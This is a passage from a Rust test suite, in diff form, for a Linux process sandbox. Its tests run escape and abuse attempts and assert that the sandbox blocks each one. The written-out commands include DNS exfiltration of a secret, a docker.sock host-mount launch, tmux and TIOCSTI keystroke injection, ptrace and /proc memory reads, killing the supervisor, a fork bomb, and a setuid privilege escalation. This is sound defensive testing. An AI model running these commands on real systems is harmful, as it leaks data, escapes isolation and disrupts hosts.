+            "{}; getent hosts $(head -c 12 secret | base32 | tr -d =).x.invalid >/dev/null; echo \"dns $?\"",
+            py(&format!(
+                "t('udp', lambda: socket.socket(socket.AF_INET,socket.SOCK_DGRAM).sendto(b'secret',('127.0.0.1',{p})))"
+            ))
+        ),
+    );
+    expect(&out, "udp", &["EPERM"]);
+    expect_fail(&out, "dns");
+    let mut buf = [0u8; 64];
+    assert!(
+        u.recv_from(&mut buf).is_err(),
+        "udp canary received a datagram"
+    );
+});
+
+case!(b19_dns_via_host_resolver_ipc, |c| {
+    let out = c.run(
+        &p_std(),
+        &format!(
+            "getent ahosts leak-$(id -u).invalid >/dev/null; echo \"getent $?\"; {}",
+            py("t('gai', lambda: socket.getaddrinfo('leak.invalid', 80))")
+        ),
+    );
+    expect_fail(&out, "getent");
+    expect(&out, "gai", &["gaierror", "EPERM"]);
+});
+
+fn family_sweep(c: &Ctx, pol: &Policy) -> RunOutput {
+    c.run(
+        pol,
+        &py("S=socket; \
+             [t(n, lambda f=f,k=k,p=p: sock(f,k,p)) for n,f,k,p in [\
+             ('inet_stream',S.AF_INET,S.SOCK_STREAM,0),('inet_dgram',S.AF_INET,S.SOCK_DGRAM,0),\
+             ('inet_raw',S.AF_INET,S.SOCK_RAW,1),('inet_mptcp',S.AF_INET,S.SOCK_STREAM,262),\
+             ('inet_sctp',S.AF_INET,S.SOCK_STREAM,132),('inet6_stream',S.AF_INET6,S.SOCK_STREAM,0),\
+             ('inet6_dgram',S.AF_INET6,S.SOCK_DGRAM,0),('inet6_raw',S.AF_INET6,S.SOCK_RAW,58),\
+             ('inet6_mptcp',S.AF_INET6,S.SOCK_STREAM,262),('packet',17,S.SOCK_RAW,0),\
+             ('nl_route',16,S.SOCK_RAW,0),('nl_audit',16,S.SOCK_RAW,9),('nl_uevent',16,S.SOCK_RAW,15),\
+             ('vsock',40,S.SOCK_STREAM,0),('alg',38,S.SOCK_SEQPACKET,0),('key',15,S.SOCK_RAW,2),\
+             ('xdp',44,S.SOCK_RAW,0),('bluetooth',31,S.SOCK_STREAM,0),('tipc',30,S.SOCK_STREAM,0),\
+             ('unix_stream',S.AF_UNIX,S.SOCK_STREAM,0),('unix_dgram',S.AF_UNIX,S.SOCK_DGRAM,0)]]; \
+             t('socketpair', lambda: S.socketpair(S.AF_UNIX, S.SOCK_STREAM)); \
+             sp=S.socketpair(S.AF_UNIX, S.SOCK_STREAM); t('sp_connect', lambda: sp[0].connect('\\0sbx')); \
+             t('sp_bind', lambda: sp[0].bind('\\0sbx')); t('sp_listen', lambda: sp[0].listen(1)); \
+             t('sp_send', lambda: sp[0].send(b'x')); \
+             t('socketpair_inet', lambda: libc.socketpair(2,1,0,(ctypes.c_int*2)()) == 0 or (_ for _ in ()).throw(OSError(ctypes.get_errno(),'')))"),
+    )
+}
+
+const SWEEP_DENIED: &[&str] = &[
+    "inet_dgram",
+    "inet_raw",
+    "inet_mptcp",
+    "inet_sctp",
+    "inet6_dgram",
+    "inet6_raw",
+    "inet6_mptcp",
+    "packet",
+    "nl_route",
+    "nl_audit",
+    "nl_uevent",
+    "vsock",
+    "alg",
+    "key",
+    "xdp",
+    "bluetooth",
+    "tipc",
+    "unix_stream",
+    "unix_dgram",
+];
+
+case!(b20_socket_family_sweep, |c| {
+    let out = family_sweep(c, &p_std());
+    for l in SWEEP_DENIED
+        .iter()
+        .chain(&["inet_stream", "inet6_stream", "socketpair_inet"])
+    {
+        expect(&out, l, &["EPERM"]);
+    }
+    expect(&out, "socketpair", &["OK"]);
+    // connect/bind/listen are denied outright with network off (EPERM, not EISCONN/EINVAL).
+    for l in ["sp_connect", "sp_bind", "sp_listen"] {
+        expect(&out, l, &["EPERM"]);
+    }
+    expect(&out, "sp_send", &["OK"]);
+    // Under the network profile, only TCP stream sockets appear.
+    let net = Policy::from_toml(&profile_text("network")).unwrap();
+    let out = family_sweep(c, &net);
+    for l in SWEEP_DENIED {
+        expect(&out, l, &["EPERM"]);
+    }
+    expect(&out, "inet_stream", &["OK"]);
+    expect(&out, "inet6_stream", &["OK"]);
+    let out = c.run(
+        &p_std(),
+        "ping -c1 -W1 127.0.0.1 >/dev/null 2>&1; echo \"ping $?\"",
+    );
+    expect_fail(&out, "ping");
+});
+
+case!(b21_io_uring, |c| {
+    let out = c.run(
+        &p_std(),
+        &py("p=(ctypes.c_byte*120)(); sc('setup', 425, 4, ctypes.addressof(p)); sc('enter', 426, 99, 0, 0, 0, 0, 0); sc('register', 427, 99, 0, 0, 0)"),
+    );
+    expect(&out, "setup", &["EPERM"]);
+    expect(&out, "enter", &["EPERM"]); // not EBADF: seccomp runs before the fd check
+    expect(&out, "register", &["EPERM"]);
+});
+
+// ---------------------------------------------------------------------------------------------
+// C. Local IPC
+
+struct UnixCanary {
+    l: UnixListener,
+}
+
+impl UnixCanary {
+    fn at(path: &Path) -> UnixCanary {
+        let _ = std::fs::remove_file(path);
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        let l = UnixListener::bind(path).unwrap();
+        l.set_nonblocking(true).unwrap();
+        UnixCanary { l }
+    }
+    fn abstract_name(name: &str) -> UnixCanary {
+        use std::os::linux::net::SocketAddrExt;
+        let addr = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
+        let l = UnixListener::bind_addr(&addr).unwrap();
+        l.set_nonblocking(true).unwrap();
+        UnixCanary { l }
+    }
+    #[track_caller]
+    fn assert_untouched(&self) {
+        match self.l.accept() {
+            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
+            other => panic!("unix canary got a connection: {other:?}"),
+        }
+    }
+}
+
+case!(c22_docker_sock, |c| {
+    let path = c.root.join("run/docker.sock");
+    let k = UnixCanary::at(&path);
+    let p = path.display();
+    let out = c.run(
+        &p_std(),
+        &format!(
+            "curl -s --unix-socket {p} http://d/v1.41/containers/json >/dev/null 2>&1; echo \"curl $?\"; \
+             docker -H unix://{p} run -v /:/h alpine true >/dev/null 2>&1; echo \"docker $?\"; {}",
+            py(&format!("t('connect', lambda: socket.socket(socket.AF_UNIX).connect('{p}'))"))
+        ),
+    );
+    expect_fail(&out, "curl");
+    expect_fail(&out, "docker");
+    expect(&out, "connect", &["EPERM"]);
+    k.assert_untouched();
+});
+
+case!(c23_dbus_and_systemd_user, |c| {
+    let path = c.root.join("run/bus");
+    let k = UnixCanary::at(&path);
+    let p = path.display();
+    let out = c.run(
+        &p_std(),
+        &format!(
+            "export DBUS_SESSION_BUS_ADDRESS=unix:path={p}; busctl --user list >/dev/null 2>&1; echo \"busctl $?\"; \
+             systemd-run --user --pty true >/dev/null 2>&1; echo \"systemdrun $?\"; \
+             dbus-send --session --print-reply --dest=org.freedesktop.DBus / org.freedesktop.DBus.ListNames >/dev/null 2>&1; echo \"dbussend $?\"; {}",
+            py(&format!("t('connect', lambda: socket.socket(socket.AF_UNIX).connect('{p}'))"))
+        ),
+    );
+    for l in ["busctl", "systemdrun", "dbussend"] {
+        expect_fail(&out, l);
+    }
+    expect(&out, "connect", &["EPERM"]);
+    k.assert_untouched();
+});
+
+case!(c24_ssh_and_gpg_agent, |c| {
+    let path = c.root.join("ssh-agent/agent.1");
+    let k = UnixCanary::at(&path);
+    let out = c.run(
+        &p_std(),
+        &format!(
+            "echo \"envsock ${{SSH_AUTH_SOCK:-unset}}\"; SSH_AUTH_SOCK={} ssh-add -L >/dev/null 2>&1; echo \"sshadd $?\"; \
+             gpg-connect-agent 'KEYINFO --list' /bye </dev/null >/dev/null 2>&1; echo \"gpg $?\"",
+            path.display()
+        ),
+    );
+    expect(&out, "envsock", &["unset"]);
+    expect_fail(&out, "sshadd");
+    k.assert_untouched();
+});
+
+case!(c25_terminal_multiplexers, |c| {
+    let path = c.root.join("tmux/default");
+    let k = UnixCanary::at(&path);
+    let marker = c.root.join("tmux-pwned");
+    let out = c.run(
+        &p_std(),
+        &format!(
+            "tmux -S {} send-keys 'touch {}' Enter >/dev/null 2>&1; echo \"tmux $?\"; \
+             screen -S main -X stuff 'touch /tmp/screen-pwned\\n' >/dev/null 2>&1; echo \"screen $?\"",
+            path.display(),
+            marker.display()
+        ),
+    );
+    expect_fail(&out, "tmux");
+    expect_fail(&out, "screen");
+    k.assert_untouched();
+    assert!(!marker.exists());
+    assert_absent(&["/tmp/screen-pwned"]);
+});
+
+case!(c26_abstract_unix_sockets, |c| {
+    let name = format!("sbx-canary-{}", token());
+    let k = UnixCanary::abstract_name(&name);
+    let out = c.run(
+        &p_std(),
+        &py(&format!(
+            "t('abstract', lambda: socket.socket(socket.AF_UNIX).connect('\\0{name}')); \
+             t('x11', lambda: socket.socket(socket.AF_UNIX).connect('\\0/tmp/.X11-unix/X0'))"
+        )),
+    );
+    expect(&out, "abstract", &["EPERM"]);
+    expect(&out, "x11", &["EPERM"]);
+    k.assert_untouched();
+});
+
+case!(c27_sysv_ipc_and_mqueues, |c| {
+    let o = Command::new("ipcmk").args(["-M", "4096"]).output().unwrap();
+    let text = String::from_utf8_lossy(&o.stdout).to_string();
+    let id: i64 = text.split(':').nth(1).unwrap().trim().parse().unwrap();
+    let info = std::fs::read_to_string("/proc/sysvipc/shm").unwrap();
+    let key = info
+        .lines()
+        .find(|l| l.split_whitespace().nth(1) == Some(&id.to_string()))
+        .and_then(|l| l.split_whitespace().next().map(str::to_string))
+        .unwrap();
+    let out = c.run(
+        &p_std(),
+        &format!(
+            "ipcs -m | grep -c ' {id} '; {}",
+            py(&format!(
+                "sc('shmget', 29, {key}, 0, 0); sc('msgget', 68, 1234, 0o1600); sc('semget', 64, 1234, 1, 0o1600); \
+                 sc('mqopen', 240, ctypes.addressof(ctypes.create_string_buffer(b'sbx')), 0o102, 0o600, 0)"
+            ))
+        ),
+    );
+    let _ = Command::new("ipcrm").args(["-m", &id.to_string()]).status();
+    for l in ["shmget", "msgget", "semget", "mqopen"] {
+        expect(&out, l, &["EPERM"]);
+    }
+    assert!(
+        String::from_utf8_lossy(&out.stdout).starts_with("0\n"),
+        "host segment visible"
+    );
+});
+
+// ---------------------------------------------------------------------------------------------
+// D. Processes and signals
+
+case!(d28_killing_the_supervisor, |c| {
+    let me = std::process::id();
+    let out = c.run(
+        &p_std(),
+        &format!(
+            "kill -9 $PPID 2>/dev/null; echo \"killppid $?\"; kill -STOP {me} 2>/dev/null; echo \"stoprunner $?\"; {}; echo 'alive OK'",
+            py(&format!("import signal; t('pykill', lambda: os.kill($PPID, 9)); \
+                t('pykillrunner', lambda: os.kill({me}, 9)); \
+                t('pidfd', lambda: signal.pidfd_send_signal(os.pidfd_open($PPID), 9))"))
+        ),
+    );
+    expect_fail(&out, "killppid");
+    expect_fail(&out, "stoprunner");
+    expect(&out, "pykill", &["EPERM", "ESRCH"]);
+    expect(&out, "pykillrunner", &["EPERM", "ESRCH"]);
+    expect(&out, "pidfd", &["EPERM", "ESRCH"]);
+    expect(&out, "alive", &["OK"]);
+    assert_eq!(out.record.exit.status, 0);
+});
+
+case!(d29_kill_everything_the_uid_owns, |c| {
+    let mut canary = Command::new("sleep").arg("1000").spawn().unwrap();
+    let out = c.run(&p_std(), "kill -9 -1; echo 'after OK'");
+    // The tool may have killed itself with -1; what matters is outside.
+    let _ = out;
+    assert!(
+        canary.try_wait().unwrap().is_none(),
+        "host canary process was killed"
+    );
+    canary.kill().unwrap();
+    canary.wait().unwrap();
+});
+
+case!(d30_ptrace_and_memory_access, |c| {
+    let out = c.run(
+        &p_std(),
+        "strace -p $PPID >/dev/null 2>&1 </dev/null; echo \"strace $?\"; gdb -p $PPID -batch >/dev/null 2>&1 </dev/null; echo \"gdbppid $?\"; \
+         python3 -c \"from t import *; sc('ptrace', 101, 16, $PPID, 0, 0); t('mem', lambda: open('/proc/%d/mem' % $PPID, 'r+b')); \
+         t('memr', lambda: open('/proc/%d/mem' % $PPID, 'rb')); t('mem1', lambda: open('/proc/1/mem', 'rb')); \
+         sc('vmread', 310, $PPID, 0, 0, 0, 0, 0)\"",
+    );
+    expect_fail(&out, "strace");
+    expect(&out, "ptrace", &["EPERM"]);
+    expect(&out, "mem", &["EACCES", "EPERM", "EROFS"]);
+    expect(&out, "memr", &["EACCES", "EPERM"]);
+    expect(&out, "mem1", &["EACCES", "EPERM"]);
+    expect(&out, "vmread", &["EPERM"]);
+});
+
+case!(d31_reading_other_processes, |c| {
+    let me = std::process::id();
+    let out = c.run(
+        &p_std(),
+        &format!(
+            "cat /proc/$PPID/environ >/dev/null 2>&1; echo \"ppidenv $?\"; cat /proc/{me}/environ >/dev/null 2>&1; echo \"runnerenv $?\"; \
+             ls -l /proc/{me}/fd >/dev/null 2>&1; echo \"runnerfd $?\"; ls -l /proc/{me}/cwd/ >/dev/null 2>&1; echo \"runnercwd $?\"; \
+             ls /proc/{me}/root/ >/dev/null 2>&1; echo \"runnerroot $?\"; \
+             echo \"cmdline $(cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' ' ' | grep -c 'CANA[R]Y')\""
+        ),
+    );
+    for l in [
+        "ppidenv",
+        "runnerenv",
+        "runnerfd",
+        "runnercwd",
+        "runnerroot",
+    ] {
+        expect_fail(&out, l);
+    }
+    expect(&out, "cmdline", &["0"]);
+});
+
+fn wait_ready(fifo: &Path) -> bool {
+    let fifo = fifo.to_path_buf();
+    let (tx, rx) = std::sync::mpsc::channel();
+    std::thread::spawn(move || {
+        // Blocks until the tool opens the FIFO for writing, then reads its line.
+        let mut s = String::new();
+        if let Ok(mut f) = std::fs::File::open(&fifo) {
+            let _ = f.read_to_string(&mut s);
+        }
+        let _ = tx.send(s);
+    });
+    // Hang guard only (not a timing assertion): the peer writes as soon as it starts.
+    rx.recv_timeout(std::time::Duration::from_secs(60))
+        .is_ok_and(|s| s.contains("ready"))
+}
+
+fn mkfifo(p: &Path) {
+    assert!(Command::new("mkfifo").arg(p).status().unwrap().success());
+}
+
+case!(d32_two_tools_do_not_interfere, |c| {
+    let b = Ctx::new("d32_b");
+    let fifo = b.w.join("ready");
+    mkfifo(&fifo);
+    let cancel = Cancel::new().unwrap();
+    let mut req_b = b.request(&[
+        "bash",
+        "-c",
+        "echo ready > ready; exec sleep 300 # ollie-b-marker",
+    ]);
+    req_b.cancel = Some(cancel.clone());
+    let pol = p_std();
+    let pb = pol.clone();
+    let th = std::thread::spawn(move || ollie_sandbox::run(&pb, &req_b).unwrap());
+    assert!(wait_ready(&fifo));
+    let btmp = b.w.join(".tmp");
+    let out = c.run(
+        &pol,
+        &format!(
+            "for p in $(pgrep -f ollie-b-marker); do kill -9 $p 2>/dev/null; echo \"kill $?\"; done; \
+             for p in $(pgrep sleep); do strace -p $p >/dev/null 2>&1 </dev/null; echo \"strace $?\"; done; \
+             echo x > {}/f 2>/dev/null; echo \"write $?\"",
+            btmp.display()
+        ),
+    );
+    let m = lines(&out);
+    if m.contains_key("kill") {
+        expect_fail(&out, "kill");
+    }
+    expect_fail(&out, "write");
+    assert!(!btmp.join("f").exists());
+    cancel.cancel();
+    let rb = th.join().unwrap();
+    assert!(rb.record.exit.cancelled);
+    assert_eq!(
+        rb.record.exit.signal,
+        Some(libc::SIGTERM),
+        "B was not killed by A"
+    );
+});
+
+fn procs_with(marker: &str) -> Vec<String> {
+    let mut v = Vec::new();
+    for e in std::fs::read_dir("/proc").unwrap().flatten() {
+        if let Ok(cmd) = std::fs::read(e.path().join("cmdline")) {
+            let s = String::from_utf8_lossy(&cmd).replace('\0', " ");
+            if s.contains(marker) {
+                v.push(s);
+            }
+        }
+    }
+    v
+}
+
+case!(d33_outliving_the_run, |c| {
+    let out = c.run(
+        &p_std(),
+        "setsid -f sh -c 'sleep 5.0101; echo late > late1'; nohup sh -c 'sleep 5.0102; touch late2' >/dev/null 2>&1 & \
+         python3 -c \"import os,ctypes,time;ctypes.CDLL(None).prctl(1,0);os.setsid();os.fork() or (time.sleep(5.0103),open('late3','w'))\"; exit 0",
+    );
+    assert_eq!(out.record.exit.status, 0);
+    for m in ["sleep 5.0101", "sleep 5.0102", "time.sleep(5.0103)"] {
+        assert!(procs_with(m).is_empty(), "{m} survived the run");
+    }
+    for f in ["late1", "late2", "late3"] {
+        assert!(!c.w.join(f).exists());
+    }
+});
+
+case!(d34_exit_status_reaping_cancel, |c| {
+    let out = c.run(&p_std(), "(sleep 0.2 &); exit 7");
+    assert_eq!((out.record.exit.code, out.record.exit.status), (Some(7), 7));
+    let out = c.run(&p_std(), "sh -c 'kill -TERM $$'; exit $?");
+    assert_eq!(out.record.exit.status, 143);
+    let req = c.request(&["sh", "-c", "kill -TERM $$"]);
+    let out = c.run_with(&p_std(), &req);
+    assert_eq!(
+        (out.record.exit.signal, out.record.exit.status),
+        (Some(libc::SIGTERM), 143)
+    );
+    let out = c.run(&p_std(), "sleep 100 & exit 5");
+    assert_eq!(out.record.exit.status, 5);
+    assert!(!out.record.exit.timed_out);
+    assert!(
+        procs_with("sleep 100").is_empty(),
+        "no process survives the run"
+    );
+
+    // Cancel: SIGTERM reaches the workload through init; then a hard kill after the grace.
+    let pol = p_std_with(|t| t.replace("kill_grace_ms = 2000", "kill_grace_ms = 300"));
+    for (script, want_t, want_sig) in [
+        (
+            "trap 'echo term > t; exit 0' TERM; echo ready > ready; sleep 100 & wait",
+            true,
+            None,
+        ),
+        (
+            "trap '' TERM; echo ready > ready; while :; do sleep 100; done",
+            false,
+            Some(libc::SIGKILL),
+        ),
+    ] {
+        let fifo = c.w.join("ready");
+        let _ = std::fs::remove_file(&fifo);
+        let _ = std::fs::remove_file(c.w.join("t"));
+        mkfifo(&fifo);
+        let cancel = Cancel::new().unwrap();
+        let mut req = c.request(&["bash", "-c", script]);
+        req.cancel = Some(cancel.clone());
+        let p2 = pol.clone();
+        let th = std::thread::spawn(move || ollie_sandbox::run(&p2, &req).unwrap());
+        assert!(wait_ready(&fifo));
+        cancel.cancel();
+        let out = th.join().unwrap();
+        assert!(out.record.exit.cancelled);
+        assert_eq!(c.w.join("t").exists(), want_t, "{script}");
+        if let Some(sig) = want_sig {
+            assert_eq!(out.record.exit.signal, Some(sig), "{script}");
+        } else {
+            assert_eq!(out.record.exit.status, 0, "{script}");
+        }
+    }
+});
+
+// ---------------------------------------------------------------------------------------------
+// E. Syscalls and kernel surface
+
+case!(e35_own_state, |c| {
+    let out = c.run(
+        &p_std(),
+        "grep -E 'NoNewPrivs|Seccomp:|Cap(Inh|Prm|Eff|Bnd|Amb)' /proc/self/status | tr -d ':\\t' | sed 's/\\([A-Za-z]*\\)\\(.*\\)/\\1 \\2/'; \
+         python3 -c \"import ctypes;print('nnp', ctypes.CDLL(None).prctl(39,0,0,0,0))\"; echo \"core $(ulimit -Hc)\"; echo \"nofile $(ulimit -Hn)\"",
+    );
+    expect(&out, "NoNewPrivs", &["1"]);
+    expect(&out, "Seccomp", &["2"]);
+    for cap in ["CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"] {
+        expect(&out, cap, &["0000000000000000"]);
+    }
+    expect(&out, "nnp", &["1"]);
+    expect(&out, "core", &["0"]);
+    expect(&out, "nofile", &["256"]);
+});
+
+case!(e36_regaining_privilege, |c| {
+    let out = c.run(
+        &p_std(),
+        "sudo -n id >/dev/null 2>&1; echo \"sudo $?\"; su -c id </dev/null >/dev/null 2>&1; echo \"su $?\"; \
+         cp /bin/sh ./sh && chmod u+s ./sh; ./sh -p -c 'grep CapEff /proc/self/status' | tr -d ':\\t' | sed 's/CapEff/suideff /'; \
+         python3 -c \"from t import *; t('setuid', lambda: os.setuid(0)); print('effafter', open('/proc/self/status').read().split('CapEff:')[1].split()[0])\"",
+    );
+    expect_fail(&out, "sudo");
+    expect_fail(&out, "su");
+    expect(&out, "suideff", &["0000000000000000"]);
+    expect(&out, "effafter", &["0000000000000000"]);
+    if !is_root() {
+        expect(&out, "setuid", &["EPERM", "EINVAL"]);
+    }
+});
+
+case!(e37_namespaces_inside, |c| {
+    let out = c.run(
+        &p_std(),
+        &format!(
+            "unshare -Ur id >/dev/null 2>&1; echo \"unshareU $?\"; unshare -n true >/dev/null 2>&1; echo \"unshareN $?\"; {}",
+            py("sc('pyunshare', 272, 0x10000000); \
+                a=(ctypes.c_uint64*11)(0x10000000); sc('clone3', 435, ctypes.addressof(a), 88); \
+                sc('setns', 308, 0, 0); sc('clone_newuser', 56, 0x10000000|17, 0, 0, 0, 0)")
+        ),
+    );
+    expect_fail(&out, "unshareU");
+    expect_fail(&out, "unshareN");
+    expect(&out, "pyunshare", &["EPERM"]);
+    expect(&out, "clone3", &["ENOSYS"]);
+    expect(&out, "setns", &["EPERM"]);
+    expect(&out, "clone_newuser", &["EPERM"]);
+});
+
+case!(e38_tiocsti_tioclinux, |c| {
+    let marker = format!("/tmp/tiocsti-pwned-{}", c.name);
+    let out = c.run(
+        &p_std(),
+        &py(&format!(
+            "import termios; b=ctypes.create_string_buffer(b't'); \
+             [sc('sti%d' % fd, 16, fd, 0x5412, ctypes.addressof(b)) for fd in (0,1,2)]; \
+             sc('stihigh', 16, 0, 0x5412 | (1 << 32), ctypes.addressof(b)); \
+             sc('linux', 16, 0, 0x541C, ctypes.addressof(b)); \
+             t('pyiocsti', lambda: [fcntl.ioctl(0, termios.TIOCSTI, bytes([ch])) for ch in b'touch {marker}\\n'])"
+        )),
+    );
+    for l in ["sti0", "sti1", "sti2", "stihigh", "linux", "pyiocsti"] {
+        expect(&out, l, &["EPERM"]);
+    }
+    assert_absent(&[&marker]);
+});
+
+/// (label, x86_64 number, args) of calls that must be denied.
+const SWEEP: &[(&str, i64, &str)] = &[
+    ("bpf", 321, "0,0,0"),
+    ("perf_event_open", 298, "0,0,-1,-1,0"),
+    ("userfaultfd", 323, "0"),
+    ("kexec_load", 246, "0,0,0,0"),
+    ("kexec_file_load", 320, "-1,-1,0,0,0"),
+    ("init_module", 175, "0,0,0"),
+    ("finit_module", 313, "-1,0,0"),
+    ("delete_module", 176, "0,0"),
+    ("add_key", 248, "0,0,0,0,0"),
+    ("request_key", 249, "0,0,0,0"),
+    ("keyctl", 250, "0,0,0,0,0"),
+    ("open_by_handle_at", 304, "-1,0,0"),
+    ("name_to_handle_at", 303, "-1,0,0,0,0"),
+    ("mount", 165, "0,0,0,0,0"),
+    ("umount2", 166, "0,0"),
+    ("pivot_root", 155, "0,0"),
+    ("move_mount", 429, "-1,0,-1,0,0"),
+    ("fsopen", 430, "0,0"),
+    ("fsmount", 432, "-1,0,0"),
+    ("open_tree", 428, "-1,0,0"),
+    ("mount_setattr", 442, "-1,0,0,0,0"),
+    ("swapon", 167, "0,0"),
+    ("swapoff", 168, "0"),
+    ("reboot", 169, "0,0,0,0"),
+    ("syslog", 103, "3,0,0"),
+    ("acct", 163, "0"),
+    ("quotactl", 179, "0,0,0,0"),
+    ("setns", 308, "-1,0"),
+    ("personality", 135, "0x0400000"),
+    ("fanotify_init", 300, "0,0"),
+    ("ioperm", 173, "0,0,0"),
+    ("iopl", 172, "0"),
+    ("process_madvise", 440, "-1,0,0,0,0"),
+    ("kcmp", 312, "0,0,0,0,0"),
+    ("ptrace", 101, "0,0,0,0"),
+    ("process_vm_readv", 310, "0,0,0,0,0,0"),
+    ("process_vm_writev", 311, "0,0,0,0,0,0"),
+    ("pidfd_getfd", 438, "-1,0,0"),
+    ("io_uring_setup", 425, "0,0"),
+    ("shmget", 29, "0,0,0"),
+    ("msgget", 68, "0,0"),
+    ("semget", 64, "0,0,0"),
+    ("chroot", 161, "0"),
+    ("x32_getpid", 0x4000_0000 | 39, ""),
+];
+
+/// Calls the allowlist must pass (their own errors, never EPERM).
+const CONTROL: &[(&str, i64, &str, &str)] = &[
+    ("read", 0, "-1,0,0", "EBADF"),
+    ("write", 1, "-1,0,0", "EBADF"),
+    ("openat", 257, "-100,0,0", "EFAULT"),
+    ("execve", 59, "0,0,0", "EFAULT"),
+    ("clone", 56, "0x11,1,0,0,0", "OK|EINVAL|EFAULT"),
+    ("mmap", 9, "0,4096,1,0x22,-1,0", "OK"),
+    ("futex", 202, "0,0,0,0,0,0", "EFAULT"),
+    ("pipe2", 293, "0,0", "EFAULT"),
+    ("wait4", 61, "-1,0,0,0", "ECHILD"),
+    ("personality_query", 135, "0xffffffff", "OK"),
+];
+
+case!(e39_dangerous_syscall_sweep, |c| {
+    let mut code = String::new();
+    for (l, nr, args) in SWEEP {
+        let sep = if args.is_empty() { "" } else { ", " };
+        code.push_str(&format!("sc('{l}', {nr}{sep}{args}); "));
+    }
+    for (l, nr, args, _) in CONTROL {
+        if *l == "clone" {
+            continue; // a raw clone would fork python; covered by the corpus instead
+        }
+        code.push_str(&format!("sc('{l}', {nr}, {args}); "));
+    }
+    let out = c.run(&p_std(), &py(&code));
+    for (l, _, _) in SWEEP {
+        expect(&out, l, &["EPERM"]);
+    }
+    for (l, _, _, want) in CONTROL {
+        if *l == "clone" {
+            continue;
+        }
+        expect(&out, l, &want.split('|').collect::<Vec<_>>());
+    }
+    // Foreign architecture (i386 int 0x80 getpid): the process is killed (SIGSYS).
+    let out = c.run(
+        &p_std(),
+        "python3 -c \"import ctypes,mmap;m=mmap.mmap(-1,4096,prot=7);m.write(b'\\xb8\\x14\\x00\\x00\\x00\\xcd\\x80\\xc3');\
+         a=ctypes.addressof(ctypes.c_char.from_buffer(m));print('int80', ctypes.CFUNCTYPE(ctypes.c_int)(a)())\"; echo \"int80rc $?\"",
+    );
+    expect(&out, "int80rc", &["159"]); // 128 + SIGSYS
+});
+
+case!(e40_enforcement_recorded_downgrades_refused, |c| {
+    let marker = c.w.join("ran");
+    for fault in [
+        Fault::LandlockAbi(5),
+        Fault::SeccompInstall,
+        Fault::CapDrop,
+        Fault::LandlockRestrict,
+    ] {
+        let mut req = c.request(&["touch", "ran"]);
+        req.fault = Some(fault);
+        let err = ollie_sandbox::run(&p_std(), &req).expect_err("forced downgrade must refuse");
+        let msg = anyhow_chain(&err);
+        match fault {
+            Fault::LandlockAbi(_) => {
+                assert!(msg.starts_with("landlock ABI 5 < required 7"), "{msg}")
+            }
+            Fault::SeccompInstall => assert!(msg.contains("seccomp"), "{msg}"),
+            Fault::CapDrop => assert!(msg.contains("capability"), "{msg}"),
+            Fault::LandlockRestrict => assert!(msg.contains("landlock"), "{msg}"),
+        }
+        assert!(!msg.contains('\n'));
+        assert!(!marker.exists(), "{fault:?}: the command ran");
+    }
+    // best_effort is the only way to run degraded, and it is recorded.
+    let pol = p_std_with(|t| t.replace("best_effort = false", "best_effort = true"));
+    let mut req = c.request(&["touch", "ran"]);
+    req.fault = Some(Fault::LandlockAbi(5));
+    let out = ollie_sandbox::run(&pol, &req).unwrap();
+    assert!(out.record.layers.best_effort_degraded);
+    assert_eq!(
+        serde_json::to_value(out.record.layers.landlock.status).unwrap(),
+        "partially_enforced"
+    );
+    assert_eq!(out.record.layers.landlock.abi, 5);
+    assert!(out.record.layers.landlock.scopes.is_empty());
+});
+
+// ---------------------------------------------------------------------------------------------
+// F. Resources
+
+case!(f41_fork_bomb, |c| {
+    let pol = p_std_with(|t| {
+        with_limits(
+            t,
+            "processes = 64\ntimeout_seconds = 3\nkill_grace_ms = 200",
+        )
+    });
+    let out = c.run(&pol, ":(){ :|:& };:; wait");
+    assert!(out.record.exit.timed_out || out.record.exit.code.is_some());
+    assert!(procs_with(":|:&").is_empty());
+    // The runner still answers right away (check_healthy ran inside `run`).
+});
+
+case!(f42_memory_exhaustion, |c| {
+    let pol = p_std_with(|t| with_limits(t, "address_space_bytes = 1073741824"));
+    let out = c.run(
+        &pol,
+        &py("t('big', lambda: bytearray(1<<36)); t('many', lambda: [bytearray(1<<20) for _ in range(10**6)])"),
+    );
+    expect(&out, "big", &["MemoryError"]);
+    expect(&out, "many", &["MemoryError"]);
+});
+
+case!(f43_cpu_burn, |c| {
+    let pol = p_std_with(|t| with_limits(t, "cpu_seconds = 1\ntimeout_seconds = 30"));
+    let out = c.run(&pol, "exec sh -c 'while :; do :; done'");
+    assert!(
+        matches!(out.record.exit.signal, Some(s) if s == libc::SIGXCPU || s == libc::SIGKILL)
+            || out.record.exit.timed_out,
+        "{:?}",
+        out.record.exit
+    );
+});
+
+case!(f44_filling_the_disk, |c| {
+    let pol = p_std_with(|t| with_limits(t, "file_size_bytes = 1048576"));
+    let out = c.run(
+        &pol,
+        "fallocate -l 200G big; echo \"fallocate $?\"; dd if=/dev/zero of=big2 bs=1M count=200 2>/dev/null; echo \"dd $?\"",
+    );
+    expect_fail(&out, "fallocate");
+    expect(&out, "dd", &["153"]); // 128 + SIGXFSZ
+    let size = std::fs::metadata(c.w.join("big2"))
+        .map(|m| m.len())
+        .unwrap_or(0);
+    assert!(size <= 1 << 20);
+});
+
+case!(f45_inode_exhaustion_bounded, |c| {
+    let pol = p_std_with(|t| with_limits(t, "timeout_seconds = 2\nkill_grace_ms = 100"));
+    let out = c.run(&pol, "mkdir d && cd d && seq 1 5000000 | xargs touch");
+    assert!(out.record.exit.timed_out);
+    std::fs::remove_dir_all(c.w.join("d")).unwrap();
+});
+
+case!(f46_output_flood, |c| {
+    let pol = p_std_with(|t| {
+        with_limits(
+            t,
+            "output_bytes = 65536\ntimeout_seconds = 3\nkill_grace_ms = 100",
+        )
+    });
+    let out = c.run(&pol, "yes | head -c 20000000; cat /dev/urandom");
+    assert!(out.record.stdout.truncated);
+    assert_eq!(out.stdout.len(), 65536);
+    assert_eq!(out.record.stdout.captured_bytes, 65536);
+    assert!(out.record.stdout.total_bytes > 20_000_000);
+    assert!(out.record.exit.timed_out);
+});
+
+// ---------------------------------------------------------------------------------------------
+// G. Environment, H. descriptors, I. (sandbox-side part)
+
+case!(g48_environment_dump, |c| {
+    let out = c.run(&p_std(), "env; tr '\\0' '\\n' < /proc/self/environ");
+    let text = String::from_utf8_lossy(&out.stdout).to_string();
+    let allowed = [
